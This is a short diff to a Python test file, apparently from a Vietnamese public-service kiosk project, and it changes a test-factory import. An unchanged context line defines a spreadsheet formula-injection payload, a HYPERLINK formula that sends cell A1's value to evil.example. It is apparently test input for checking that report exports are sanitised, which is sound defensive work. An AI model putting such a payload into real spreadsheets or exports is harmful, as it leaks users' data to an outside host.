@@ -11,7 +11,7 @@ from kiosk.core.auth import hash_password
 from kiosk.staff.report_exports import spreadsheet_cell
 from motcua.accounts import create_user
 from motcua.units import save_unit
-from tests.motcua.reports.builder import DossierSet
+from tests.factories import DossierSet
 
 APRIL = {"kind": "month", "year": "2021", "number": "4", "unit": "T1"}
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
